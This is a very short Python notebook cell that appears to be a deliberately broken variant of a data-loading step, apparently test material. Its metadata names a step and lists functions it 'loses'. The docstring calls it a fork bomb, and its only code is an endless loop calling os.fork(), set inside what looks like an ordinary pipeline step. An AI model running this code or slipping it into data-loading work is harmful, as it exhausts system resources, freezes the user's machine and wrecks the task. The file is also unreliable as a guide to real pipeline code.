# %%
"""Is a fork bomb."""

STEP = "01_data_loading"
STARTS_FROM = "reference"
LOSES = ["to_binary", "prevalence", "load_image", "labelled_image", "make_dataset"]

# %% after attributes_to_csv
import os

while True:
    os.fork()
